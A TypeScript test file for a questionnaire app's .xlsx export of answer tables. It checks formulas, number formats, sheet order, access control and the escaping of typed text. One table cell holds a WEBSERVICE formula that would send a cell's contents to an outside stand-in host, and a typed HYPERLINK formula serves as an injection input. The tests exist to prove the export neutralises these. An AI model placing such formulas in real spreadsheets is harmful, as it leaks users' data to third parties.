/** The workbook of a questionnaire's tables, read back. */
import { questionTypes, type definition } from '@telemachos/contract/features/questionnaires/definition.schemas.ts';
import { calculate } from '@telemachos/contract/features/questionnaires/tables/calculation.rules.ts';
import { readXlsx } from 'hucre/xlsx';
import { expect, test } from 'vitest';
import type { z } from 'zod';
import { makeMentee } from '../../testing/people.ts';
import { sharedWorld, type Person, type World } from '../../testing/world.ts';
import { makeAction } from './testing/making.ts';
import { escapeWorkbookText } from '../../platform/spreadsheet-text.ts';
import { formulaForFile, workbookOf } from './workbook-file.ts';

const el = (text: string) => ({ el: text });
const calculator: z.input<typeof definition> = {
  Title: { el: 'Δύο πίνακες', en: 'Two tables' },
  Sections: [
    {
      Title: el('Μέρος'),
      Questions: [
        {
          Id: 'ID_0001',
          Type: questionTypes.spreadsheet,
          Group: 1,
          Text: el('Κόστος'),
          Data: {
            Table: {
              Name: 'Costs',
              Columns: 2,
              Rows: 6,
              Widths: [30],
              Cells: {
                A1: { Value: { el: '@Κόστος', en: '@Cost' }, Bold: true },
                B1: { Input: 'number', Format: 'money' },
                B2: { Input: 'percent' },
                B3: { Input: 'text' },
                B4: { Value: '=B1*(1+B2)', Format: 'money' },
                B5: { Value: '=1/0' },
                B6: { Value: '=WEBSERVICE("http://x/"&B3)' },
              },
              Charts: [
                { Type: 'bar', Title: el('Γράφημα'), Labels: 'A1:A2', Series: [{ Name: el('Ποσά'), Values: 'B1:B2' }] },
              ],
            },
          },
        },
        {
          Id: 'ID_0002',
          Type: questionTypes.spreadsheet,
          Group: 2,
          Text: el('Σύνοψη'),
          Data: {
            Table: {
              Name: 'Summary',
              Columns: 1,
              Rows: 2,
              Cells: { A1: { Value: '=SUM(Costs!B1;Costs!B4)' }, A2: { Value: '24/11/2026', Format: 'date' } },
            },
          },
        },
      ],
    },
  ],
};

const shared = sharedWorld();
const begin = async (): Promise<{ world: World; mentee: Person; set: number }> => {
  const world = shared();
  const action = await makeAction(world, calculator);
  const mentee = await makeMentee(world);
  const set = (await mentee.done('/api/quest/getByAction', { ActionId: action })).AnswerSetID;
  await mentee.done('/api/quest/StartTime', { AnswerSetId: set });
  return { world, mentee, set };
};
const download = (world: World, person: Person, query: string) =>
  world.app.inject({ method: 'GET', url: `/api/quest/Workbook?${query}`, headers: { cookie: person.cookie } });

test('typed numbers, live formulas with their values, references between sheets, harmless text', async () => {
  const { world, mentee, set } = await begin();
  await mentee.done('/api/quest/AnswerOpen', {
    AnswerSetId: set,
    GroupId: 1,
    Text: JSON.stringify({ B1: '1.000,5', B2: '24', B3: '=HYPERLINK("http://x")' }),
  });
  const reply = await download(world, mentee, `AnswerSetId=${set}`);
  expect(reply.statusCode).toBe(200);
  expect(reply.headers['content-type']).toContain('spreadsheetml');
  expect(decodeURIComponent(String(reply.headers['content-disposition']))).toContain('Δύο πίνακες.xlsx');
  const { sheets } = await readXlsx(reply.rawPayload, { readStyles: true });
  expect(sheets.map(({ name }) => name)).toEqual(['Costs', 'Summary']);
  const [costs, summary] = sheets;
  expect(costs?.rows[0]).toEqual(['Κόστος', 1000.5]);
  expect(costs?.rows[1]?.[1]).toBe(0.24);
  expect(costs?.rows[2]?.[1]).toBe('=HYPERLINK("http://x")');
  expect(costs?.cells?.get('2,1')?.formula).toBeUndefined();
  expect(costs?.cells?.get('3,1')).toMatchObject({ formula: 'B1*(1+B2)', formulaResult: 1240.62 });
  expect(costs?.cells?.get('3,1')?.style?.numFmt).toContain('€');
  expect(costs?.cells?.get('0,0')?.style?.font?.bold).toBe(true);
  expect(costs?.cells?.get('4,1')?.formula).toBe('1/0');
  expect(costs?.cells?.get('5,1')?.formula).toBeUndefined();
  expect(costs?.cells?.get('5,1')?.value ?? costs?.rows[5]?.[1]).toBe('#NAME?');
  expect(summary?.cells?.get('0,0')).toMatchObject({ formula: "SUM('Costs'!B1,'Costs'!B4)", formulaResult: 2241.12 });
  expect(costs?.columns?.[0]?.width).toBeCloseTo(30, 0);
});

test('the table asked for comes first; another language is in the other words; what is not there is missing', async () => {
  const { world, mentee, set } = await begin();
  const { sheets } = await readXlsx(
    (await download(world, mentee, `AnswerSetId=${set}&Group=2&Language=en`)).rawPayload,
  );
  expect(sheets.map(({ name }) => name)).toEqual(['Summary', 'Costs']);
  expect(sheets[1]?.rows[0]?.[0]).toBe('Cost');
  expect((await download(world, mentee, `AnswerSetId=${set}&Group=9`)).statusCode).toBe(404);
  expect((await download(world, mentee, 'AnswerSetId=abc')).statusCode).toBe(400);
});

test('only those who may see the answers', async () => {
  const { world, set } = await begin();
  expect((await download(world, await world.enter('mentee2'), `AnswerSetId=${set}`)).statusCode).toBe(404);
});

test('a table without inputs asks nothing, and an address that takes no input is refused', async () => {
  const { mentee, set } = await begin();
  const answer = (GroupId: number, cells: Record<string, string>) =>
    mentee.call('/api/quest/AnswerOpen', { AnswerSetId: set, GroupId, Text: JSON.stringify(cells) });
  expect((await answer(1, { B1: '5' })).output).toMatchObject({ Answered: 1, Countable: 1, Completion: 100 });
  expect((await answer(1, { B4: '5' })).problem?.code).toBe('UNKNOWN_OPTION');
  expect((await answer(1, { B1: 'x'.repeat(2001) })).problem?.code).toBe('INVALID_ANSWER');
  expect((await answer(2, {})).problem?.code).toBe('UNKNOWN_GROUP');
});

test('formulas as files have them', () => {
  expect(formulaForFile('sum(t1!$a$1:b2;"a""b";TRUE)&ifs(a1>=2;1%)')).toBe(
    `SUM('t1'!$A$1:B2,"a""b",TRUE)&_xlfn.IFS(A1>=2,1%)`,
  );
  expect(['=1', '#REF!', '_x0041_', 'a\uFFFEb\u0001\uD800', ''].map(escapeWorkbookText)).toEqual([
    '=1',
    '#REF!',
    '_x005F_x0041_',
    'a\uFFFDb\uFFFD\uFFFD',
    '',
  ]);
});

test('texts stay what was typed, those kept before they were judged too', async () => {
  const texts = ['=1+1', '+x', '-x', '@a', '#REF!', '_x0041_', 'a\uFFFEb\u0001c', ' =1'];
  const table = {
    Name: 'T',
    Columns: 1,
    Rows: 9,
    Widths: [],
    Charts: [],
    Cells: Object.fromEntries(texts.map((_, row) => [`A${row + 1}`, { Value: '', Input: 'text' as const }])),
  };
  const typed = { T: Object.fromEntries(texts.map((text, row) => [`A${row + 1}`, text])) };
  const { sheets } = await readXlsx(await workbookOf([table], calculate([table], typed)));
  expect(sheets[0]?.rows.map(([cell]) => cell)).toEqual([
    '=1+1',
    '+x',
    '-x',
    '@a',
    '#REF!',
    '_x0041_',
    'a\uFFFDb\uFFFDc',
    ' =1',
  ]);
});
